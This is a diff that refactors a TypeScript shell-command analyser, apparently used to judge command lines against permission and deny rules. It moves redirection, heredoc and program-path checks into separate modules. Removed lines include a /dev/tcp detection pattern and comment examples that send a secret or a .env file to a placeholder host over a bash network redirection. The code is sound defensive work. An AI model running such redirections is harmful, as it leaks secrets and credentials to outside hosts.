@@ -1,10 +1,23 @@
 import { declaration, unset } from './builtins';
-import { classifyCommand, DEV_SINKS, riskyVariable, type Verdict } from './commands';
-import { evaluate, integerNode, nonIntegers } from './evaluation';
+import { classifyCommand } from './commands';
+import { evaluate, integerNode } from './evaluation';
+import { Findings } from './findings';
+import { directoryOf, programByPath } from './program-path';
+import {
+  fileRedirect,
+  heredoc,
+  lastCommand,
+  NO_STDIN,
+  redirectOperator,
+  scriptFile,
+  stdinScript,
+  type Stdin,
+} from './redirections';
 import { childByField, childrenByField, type Syntax, type SyntaxNode } from './syntax';
-import { COMMAND_CLASSES, type ShellAnalysis, type ShellClassifier, type SimpleCommand } from './types';
-import type { Binding, Condition } from './variables';
-import { unwrap, type Inner } from './wrappers';
+import type { ShellAnalysis, ShellClassifier } from './types';
+import { riskyVariable } from './variables';
+import type { Inner, Verdict } from './verdict';
+import { unwrap } from './wrappers';
 import { basename, expandBraces, isGlob, short, wordOf, wordsOf, type Word } from './words';
 
 /**
@@ -20,7 +33,6 @@ export type ParseFn = (source: string) => Syntax;
 
 /** Longer lines are not analysed (parsing and copying cost grows with size): they are asked. */
 export const MAX_SOURCE_LENGTH = 256 * 1024;
-export const MAX_COMMANDS = 10_000;
 /** Words in one command after brace expansion (`{a,b}{c,d}…` grows fast). */
 const MAX_WORDS = 4096;
 /** `bash -c` inside `bash -c` inside…: each level is parsed again, so the depth is capped. */
@@ -31,13 +43,6 @@ const MAX_WALK_DEPTH = 1000;
 const MAX_RESPACED_LENGTH = 64 * 1024;
 /** Strings bash may evaluate again that are parsed (best effort, for deny rules) once a line is asked. */
 const MAX_PAYLOADS = 64;
-
-/** Where the standard input of a command comes from, as far as shells reading a script care. */
-type Stdin =
-  | { kind: 'none' | 'pipe' }
-  | { kind: 'heredoc'; body: string; literal: boolean }
-  | { kind: 'herestring'; word: Word }
-  | { kind: 'file'; word: Word };
 
 interface Scope {
   via: string[];
@@ -51,71 +56,12 @@ interface Assignment {
   value: string;
 }
 
-const NO_STDIN: Stdin = { kind: 'none' };
-/** Directories whose programs are the system's own: `/usr/bin/git` is git, `./git` is not. */
-const SYSTEM_DIRS = new Set([
-  '/bin',
-  '/usr/bin',
-  '/usr/local/bin',
-  '/sbin',
-  '/usr/sbin',
-  '/usr/local/sbin',
-  '/opt/homebrew/bin',
-]);
-/** Project-local programs that are meant to be run by path. */
-const LOCAL_TOOLS = new Set(['gradlew', 'mvnw', 'configure']);
-/** bash opens a connection for a redirection to these. */
-const NETWORK_PATH = /^\/dev\/(tcp|udp)\//;
-/** True when a path that starts with `s` could be a connection (`/dev/`, `/dev/tc`, `/dev/tcp/h/80`…). */
-const mayConnect = (s: string) => NETWORK_PATH.test(s) || ['/dev/tcp/', '/dev/udp/'].some((p) => p.startsWith(s));
-
-function redirectOperator(r: SyntaxNode): string {
-  const fd = r.children.find((c) => c.type === 'file_descriptor');
-  const dest = childByField(r, 'destination');
-  return r.text.slice((fd ? fd.end : r.start) - r.start, (dest ? dest.start : r.end) - r.start).trim();
-}
-
-/** The simple command a redirection after `body` applies to (bash binds it to the last one). */
-function lastCommand(node: SyntaxNode): SyntaxNode | undefined {
-  if (node.type === 'command') return node;
-  if (node.type === 'redirected_statement') {
-    const body = childByField(node, 'body');
-    return body && lastCommand(body);
-  }
-  if (node.type === 'pipeline' || node.type === 'negated_command') {
-    const last = node.children.filter((c) => c.named && c.type !== 'comment').at(-1);
-    return last && lastCommand(last);
-  }
-  return undefined;
-}
-
-function heredoc(r: SyntaxNode): Stdin {
-  const start = r.children.find((c) => c.type === 'heredoc_start')?.text ?? '';
-  const body = r.children.find((c) => c.type === 'heredoc_body');
-  const text = body?.text ?? '';
-  // A quoted delimiter (`<<'EOF'`, `<<"EOF"`, `<<\EOF`) means the body is passed on as written.
-  if (/['"\\]/.test(start)) return { kind: 'heredoc', body: text, literal: true };
-  const dynamic = body?.children.some((c) => c.type !== 'heredoc_content') ?? false;
-  return {
-    kind: 'heredoc',
-    body: text.replace(/\\([$`\\\n])/g, (_, c: string) => (c === '\n' ? '' : c)),
-    literal: !dynamic,
-  };
-}
-
 function assignmentOf(node: SyntaxNode): Assignment {
   const value = childByField(node, 'value');
   return { name: childByField(node, 'name')?.text ?? '', value: value ? wordOf(value).value : '' };
 }
 
-class Walker {
-  readonly commands: SimpleCommand[] = [];
-  readonly writes: string[] = [];
-  readonly problems = new Set<string>();
-  /** Problems that hold unless some variables only ever hold integers; see evaluation.ts. */
-  private readonly conditions: Condition[] = [];
-  /** Every variable any script of the line sets, and whether it is set to integers only. */
-  private readonly bindings = new Map<string, Binding[]>();
+class Walker extends Findings {
   /** Literal strings bash may evaluate again: parsed only if the line is asked anyway, so deny rules see their commands. */
   private deferred: Array<{ text: string; via: string[]; scope: Scope }> = [];
   private payloads = 0;
@@ -124,7 +70,9 @@ class Walker {
   /** Current recursion depth of the walk, across nested scripts (a counter: no allocation per node). */
   private depth = 0;
 
-  constructor(private readonly parse: ParseFn) {}
+  constructor(private readonly parse: ParseFn) {
+    super();
+  }
 
   script(source: string, via: string[], outer: Scope | undefined): void {
     const nesting = outer ? outer.nesting + 1 : 0;
@@ -179,33 +127,6 @@ class Walker {
       }
       this.settle();
     }
-  }
-
-  /** Turns the conditions that hold, given every binding seen so far, into problems. */
-  private settle(): void {
-    const unsafe = nonIntegers(this.bindings);
-    const holds = (c: Condition): boolean => {
-      if ('names' in c) return c.names.some((n) => unsafe.has(n) || /^\d+$/.test(n));
-      // Unset by the line (the fixed environment's value) or an integer: not a connection.
-      if (!unsafe.has(c.name) && !/^\d+$/.test(c.name)) return false;
-      return (this.bindings.get(c.name) ?? [{ integer: null }]).some(
-        (b) => b.text === undefined || mayConnect(c.prefix + b.text),
-      );
-    };
-    for (const c of this.conditions.splice(0)) if (holds(c)) this.problems.add(c.problem);
-  }
-
-  result(): ShellAnalysis {
-    const followable = this.problems.size === 0;
-    let rank = this.writes.length ? COMMAND_CLASSES.indexOf('write') : 0;
-    for (const c of this.commands) rank = Math.max(rank, COMMAND_CLASSES.indexOf(c.class));
-    return {
-      commands: this.commands,
-      writes: this.writes,
-      followable,
-      problems: [...this.problems],
-      class: followable ? COMMAND_CLASSES[rank]! : 'unknown',
-    };
   }
 
   private walk(node: SyntaxNode, scope: Scope): void {
@@ -360,44 +281,11 @@ class Walker {
   }
 
   private fileRedirect(r: SyntaxNode, scope: Scope): void {
-    const dest = childByField(r, 'destination');
-    if (!dest || dest.type === 'process_substitution') return; // `> >(cmd)` feeds a command, not a file
-    const op = redirectOperator(r);
-    const target = wordOf(dest);
-    // What the target starts with for certain: the whole of a literal word, else the text before its
-    // first expansion. `~+` and `~-` are $PWD and $OLDPWD, which a line can set to anything.
-    const fixed = /^~[+-]/.test(target.value)
-      ? ''
-      : target.literal
-        ? target.value
-        : target.value.replace(/[$`][\s\S]*$/, '');
-    if (NETWORK_PATH.test(fixed)) {
-      // bash itself opens a connection for these paths: `echo secret > /dev/tcp/host/80` needs no curl.
-      return this.emit(
-        [`${op}${target.value}`],
-        { class: 'network', reason: `the redirection to ${short(target.value)} opens a network connection` },
-        scope.via,
-      );
-    }
-    if (fixed !== target.value && mayConnect(fixed)) {
-      // `x=tcp; cat .env > /dev/$x/host/80`: the target could still turn out to be a connection.
-      // When what follows the fixed start is a plain `$v`, v's values decide, once the whole line
-      // is seen: a variable the line never sets holds the fixed environment's value (`> "$TMPDIR/x"`),
-      // an integer cannot spell tcp, and literal values (`d=out; … > "$d/log"`) can be checked.
-      const problem = `${op}${short(target.value)}: the redirection target is only known at run time (it could be /dev/tcp/…)`;
-      const next = /^~[+-]/.test(target.value)
-        ? null
-        : /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})/.exec(target.value.slice(fixed.length));
-      if (next) this.conditions.push({ prefix: fixed, name: (next[1] ?? next[2])!, problem });
-      else this.problems.add(problem);
-    }
-    // `>&2` and `2>&1` duplicate a descriptor; `>&file` (no number) writes file, like `&>file`.
-    const dup = (op === '>&' || op === '<&') && (op === '<&' || (target.literal && /^(\d+-?|-)$/.test(target.value)));
-    if (!dup && ['>', '>>', '&>', '&>>', '>|', '<>', '>&'].includes(op)) this.write(target.value);
-  }
-
-  private write(target: string): void {
-    if (!DEV_SINKS.has(target) && !this.writes.includes(target)) this.writes.push(target);
+    const effect = fileRedirect(r);
+    if (effect.connects) return this.emit(effect.connects.argv, effect.connects.verdict, scope.via);
+    if (effect.condition) this.conditions.push(effect.condition);
+    if (effect.problem) this.problems.add(effect.problem);
+    if (effect.write !== undefined) this.write(effect.write);
   }
 
   /** One simple command, as words; wrappers are unwrapped here. */
@@ -413,30 +301,12 @@ class Walker {
     // is still judged as rm (the definition may not be the one that runs, or may not run at all).
     const cmd = basename(name.value);
     argv[0] = cmd;
-    const dir = name.value.includes('/')
-      ? name.value.slice(0, name.value.length - cmd.length).replace(/\/+$/, '') || '/'
-      : undefined;
-    if (dir !== undefined && !SYSTEM_DIRS.has(dir) && !LOCAL_TOOLS.has(cmd)) {
-      if (/(^|\/)node_modules\/\.bin$/.test(dir) && !dir.split('/').includes('..')) {
-        // A package's program, not the system one of the same name: project code, like `npm test`,
-        // and named by its path so that no rule about the system `ls` or `git` matches it.
-        argv[0] = name.value;
-        return this.emit(
-          argv,
-          {
-            class: 'test-build',
-            reason: `runs ${short(name.value)}, a program installed in the project's node_modules`,
-          },
-          scope.via,
-        );
-      }
-      // `./git status` is not git: a rule about `git status` must not allow it.
-      this.problems.add(`${short(name.value)} is not the system ${cmd}: what it runs cannot be seen`);
-      return this.emit(
-        argv,
-        { class: 'unknown', reason: `runs ${short(name.value)}, a program outside the system directories` },
-        scope.via,
-      );
+    const dir = directoryOf(name.value, cmd);
+    const byPath = dir === undefined ? undefined : programByPath(name.value, cmd, dir);
+    if (byPath) {
+      if (byPath.problem) this.problems.add(byPath.problem);
+      argv[0] = byPath.argv0;
+      return this.emit(argv, byPath.verdict, scope.via);
     }
     const wrapped = unwrap(cmd, words);
     if (wrapped && (wrapped.self || wrapped.runs.length)) {
@@ -474,50 +344,12 @@ class Walker {
   private inner(inner: Inner, argv: string[], scope: Scope, assignments: Assignment[]): void {
     const via = [...scope.via, inner.label];
     if ('argv' in inner) return this.run(inner.argv, { ...scope, via }, assignments);
-    if ('file' in inner) {
-      return this.emit(
-        argv,
-        {
-          class: 'unknown',
-          reason: `${inner.label} runs the script file ${short(inner.file.value)}, whose commands cannot be seen`,
-        },
-        scope.via,
-      );
-    }
+    if ('file' in inner) return this.emit(argv, scriptFile(inner.label, inner.file), scope.via);
     if ('script' in inner) return this.shellString(inner.script, via, argv, scope, inner.opaque);
-    const stdin = scope.stdin;
-    switch (stdin.kind) {
-      case 'heredoc':
-        return this.shellString(
-          { value: stdin.body, literal: stdin.literal, pattern: '' },
-          [...scope.via, `${inner.label} <<EOF`],
-          argv,
-          scope,
-        );
-      case 'herestring':
-        return this.shellString(stdin.word, [...scope.via, `${inner.label} <<<`], argv, scope);
-      case 'file':
-        return this.emit(
-          argv,
-          {
-            class: 'unknown',
-            reason: `${inner.label} runs the script file ${short(stdin.word.value)}, whose commands cannot be seen`,
-          },
-          scope.via,
-        );
-      default:
-        this.problems.add(
-          `${inner.label} reads its script from ${stdin.kind === 'pipe' ? 'a pipe' : 'standard input'}, which cannot be seen`,
-        );
-        return this.emit(
-          argv,
-          {
-            class: 'unknown',
-            reason: `${inner.label} runs a script it reads from ${stdin.kind === 'pipe' ? 'a pipe' : 'standard input'}`,
-          },
-          scope.via,
-        );
-    }
+    const fed = stdinScript(inner.label, scope.stdin);
+    if ('script' in fed) return this.shellString(fed.script, [...scope.via, fed.label], argv, scope);
+    if (fed.problem) this.problems.add(fed.problem);
+    return this.emit(argv, fed.verdict, scope.via);
   }
 
   /**
@@ -533,14 +365,6 @@ class Walker {
       this.emit(argv, { class: 'unknown', reason: `${label} runs a script only known at run time` }, scope.via);
     }
     this.script(word.value, via, scope);
-  }
-
-  private emit(argv: string[], verdict: Verdict, via: string[]): void {
-    if (this.commands.length >= MAX_COMMANDS) {
-      this.problems.add(`the command runs more than ${MAX_COMMANDS} commands`);
-      return;
-    }
-    this.commands.push({ argv, text: argv.join(' '), class: verdict.class, reason: verdict.reason, via });
   }
 }
 
